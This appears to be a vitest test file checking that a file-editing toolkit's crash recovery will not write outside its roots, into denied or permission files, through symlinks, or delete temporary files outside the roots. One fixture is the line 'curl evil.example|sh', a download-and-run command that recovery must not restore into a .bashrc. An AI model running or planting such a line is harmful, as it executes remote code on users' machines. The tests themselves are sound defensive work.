/** Recovery goes by the roots and rules of the process that runs it, even for records that are our own. */
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { imageOf, plantHistoryFile, recordOf } from "../support/history-files.js";
import { type TempWorkspace, tempWorkspace } from "../support/workspace.js";

const PRESENT = "alias ls='ls --color'\n";
const FORMER = "curl evil.example|sh#\n";
/** What is there is a mixture of this and the former content. */
const GOAL = `${PRESENT.slice(0, -1)}#`;
const TEMPORARY = ".filewright-0123456789ab1.tmp";

const owner = { kind: "owner", at: 1, owner: "999999 1 elsewhere", isLocked: true };

function plantTorn(files: TempWorkspace, path: string): string {
  const change = recordOf({ id: "torn", path, before: imageOf(FORMER), after: imageOf(GOAL) });
  return plantHistoryFile(files, {
    contents: [FORMER, GOAL],
    records: [owner, change, { kind: "in-place", change: "torn" }],
    isOpen: true,
  });
}

async function work(
  files: TempWorkspace,
  name = "in/probe.txt",
  deny: readonly string[] = [],
): Promise<void> {
  const root = files.path(name.split("/")[0] ?? "");
  const toolkit = files.editor({ roots: [root], workingDirectory: root, permissions: { deny } });
  const result = await toolkit.call("Write", { file_path: files.path(name), content: "probe\n" });
  expect(result.error).toBeUndefined();
  await toolkit.close();
}

describe("Recovery", () => {
  it("restores no file outside the roots, and leaves that to a process that works there [HOST-5]", async () => {
    const files = tempWorkspace({ "in/a.txt": "", "home/.bashrc": PRESENT });
    const log = plantTorn(files, files.path("home/.bashrc"));
    await work(files);
    expect(files.read("home/.bashrc")).toBe(PRESENT);
    expect(existsSync(`${log}.idx`)).toBe(false);
    await work(files, "home/probe.txt");
    expect(files.read("home/.bashrc")).toBe(FORMER);
    expect(existsSync(`${log}.idx`)).toBe(true);
  });

  it.each([
    ["that a rule denies", "in/.env", ["Edit(.env)"]],
    ["of permission settings", "in/.filewright/settings.json", []],
  ])("restores no file %s [HOST-5]", async (_, name, deny) => {
    const files = tempWorkspace({ "in/a.txt": "" });
    plantTorn(files, files.path(name));
    const toolkit = files.editor({
      roots: [files.path("in")],
      workingDirectory: files.path("in"),
      permissions: { deny, settings: false },
    });
    files.write(name, PRESENT);
    await toolkit.call("Write", { file_path: files.path("in/probe.txt"), content: "probe\n" });
    expect(files.read("in/probe.txt")).toBe("probe\n");
    expect(files.read(name)).toBe(PRESENT);
  });

  it("restores no file that a link leads to by now [HOST-5]", async () => {
    const files = tempWorkspace({ "in/a.txt": "", "out/target.txt": PRESENT });
    symlinkSync(files.path("out"), files.path("in/folder"));
    plantTorn(files, files.path("in/folder/target.txt"));
    await work(files);
    expect(files.read("out/target.txt")).toBe(PRESENT);
  });

  it("removes no temporary file or folder outside the roots, nor one that is a link [HOST-6]", async () => {
    const files = tempWorkspace({ "in/a.txt": "", "out/kept.txt": "" });
    const outside = files.path("out", TEMPORARY);
    writeFileSync(outside, "work");
    mkdirSync(files.path("out/empty"));
    symlinkSync(outside, files.path("in", TEMPORARY));
    const change = (id: string, path: string, more: object): object => ({
      ...recordOf({ id, path: files.path(path), before: null, after: imageOf(GOAL) }),
      ...more,
    });
    plantHistoryFile(files, {
      contents: [GOAL],
      records: [
        owner,
        change("one", "out/a.txt", { temporary: outside }),
        change("two", "in/b.txt", { temporary: files.path("in", TEMPORARY) }),
        change("three", "out/empty/c.txt", { createdFolder: files.path("out/empty") }),
        { kind: "staging", at: 1, temporary: outside },
      ],
      isOpen: true,
    });
    await work(files);
    expect(readFileSync(outside, "utf8")).toBe("work");
    expect(existsSync(join(files.path("in"), TEMPORARY))).toBe(true);
    expect(existsSync(files.path("out/empty"))).toBe(true);
  });
});
